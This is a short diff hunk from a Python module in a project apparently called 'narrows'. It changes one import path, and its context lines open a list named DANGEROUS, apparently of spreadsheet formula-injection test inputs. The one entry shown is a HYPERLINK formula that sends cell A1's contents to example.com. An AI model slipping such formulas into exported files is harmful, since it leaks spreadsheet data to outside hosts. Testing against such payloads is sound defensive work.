@@ -20,7 +20,7 @@ from narrows.data.tables import read_columns, read_texts, write_columns
 from narrows.texts import guarded, unguarded
 from narrows.training.history import History
 from narrows.training.progress import listeners, logged
-from narrows.web.training_logs import read_runs
+from narrows.web.routes import read_runs
 
 DANGEROUS = [
     '=HYPERLINK("http://example.com/?"&A1)',
